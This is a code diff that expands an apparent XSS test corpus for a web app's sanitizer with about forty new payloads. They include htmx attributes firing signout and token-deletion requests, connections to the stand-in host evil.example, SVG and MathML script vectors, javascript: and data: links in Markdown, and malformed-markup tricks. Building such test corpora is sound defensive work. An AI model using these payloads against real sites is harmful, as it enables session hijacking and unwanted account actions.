@@ -131,6 +131,52 @@ PAYLOADS: list[str] = [
     "> <img src=x onerror=alert('xss')>",
     "* <svg onload=alert('xss')>",
     "| a |\n|---|\n| <img src=x onerror=alert('xss')> |",
+    # --- added by the security suite (tests/security, tests/browser/test_xss_everywhere.py) ---------------
+    # htmx attributes that would make htmx send requests or run code, in every spelling it reads
+    "<button hx-post=\"/signout\" hx-trigger=\"load\">xss hx-post</button>",
+    "<div hx-delete=\"/account/tokens\" hx-trigger=\"load delay:10ms\">xss hx-delete</div>",
+    "<div hx-put=\"/api/v1/consultations/x\" hx-trigger=\"revealed\">xss hx-put</div>",
+    "<div hx-patch=\"/account/digest\" hx-trigger=\"intersect\">xss hx-patch</div>",
+    "<form hx-post=\"/language\" hx-trigger=\"load\"><input name=language value=nl></form>",
+    "<div data-hx-get=\"/signout\" data-hx-trigger=\"load\" data-hx-swap=\"outerHTML\">xss data-hx-get</div>",
+    "<div hx-get=\"https://evil.example/x\" hx-trigger=\"load\">xss cross-origin htmx</div>",
+    "<div hx-trigger=\"load\" hx-get=\"/admin/people\" hx-target=\"#main\" hx-swap=\"innerHTML\">xss swap</div>",
+    "<div hx-on=\"htmx:load: alert('xss')\">xss old hx-on</div>",
+    "<div hx-on:htmx:after-request=\"alert('xss')\" hx-get=\"/\" hx-trigger=\"load\">xss hx-on htmx event</div>",
+    "<div data-hx-on:click=\"alert('xss')\">xss data-hx-on</div>",
+    "<div hx-on--load=\"alert('xss')\">xss hx-on dashes</div>",
+    "<div hx-headers='js:{\"X-A\": alert(\"xss\")}' hx-get=\"/\" hx-trigger=\"load\">xss hx-headers</div>",
+    "<div hx-ext=\"debug\" hx-boost=\"true\"><a href=\"/signout\">xss hx-boost</a></div>",
+    "<div hx-ws=\"connect:wss://evil.example\">xss hx-ws</div>",
+    "<div hx-sse=\"connect:https://evil.example/events\">xss hx-sse</div>",
+    "<img src=x hx-get=\"/signout\" hx-trigger=\"error\">",
+    "<a href=\"#\" HX-GET=\"/signout\" HX-TRIGGER=\"load\">xss upper-case htmx</a>",
+    # SVG and MathML
+    "<svg><script href=\"data:,alert('xss')\"></script></svg>",
+    "<svg/onload=alert('xss')>",
+    "<svg><animate onbegin=alert('xss') attributeName=x dur=1s>",
+    "<svg><a xlink:href=\"javascript:alert('xss')\"><text x=20 y=20>xss</text></a></svg>",
+    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
+    "<svg><foreignObject><img src=x onerror=alert('xss')></foreignObject></svg>",
+    "<svg><set attributeName=onload to=alert('xss')>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')></style></mglyph></table></mtext></math>",
+    "<math href=\"javascript:alert('xss')\">xss mathml href</math>",
+    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert('xss')\">xss</maction></math>",
+    "<math><mi xlink:href=\"data:x,<script>alert('xss')</script>\">xss</mi></math>",
+    # javascript: and data: URLs in Markdown and in attributes
+    "[x](javascript&colon;alert('xss'))",
+    "[x](&#106;avascript:alert('xss'))",
+    "[x](data:text/html,<script>alert('xss')</script>)",
+    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "<a href=\"data:image/svg+xml,<svg onload=alert('xss')>\">svg data</a>",
+    "<img src=\"data:image/svg+xml,<svg onload=alert('xss')>\">",
+    # broken markup
+    "<img src=\"x\" onerror=\"alert('xss')\"",
+    "<a href=\"x\" <script>alert('xss')</script>",
+    "<!-- --!><img src=x onerror=alert('xss')> -->",
+    "<svg><![CDATA[</svg><img src=x onerror=alert('xss')>]]></svg>",
+    "<p <img src=x onerror=alert('xss')>>",
 ]
 
-assert len(PAYLOADS) >= 100, len(PAYLOADS)
+assert len(PAYLOADS) >= 150, len(PAYLOADS)
+assert len(set(PAYLOADS)) == len(PAYLOADS), "a payload is in the corpus twice"
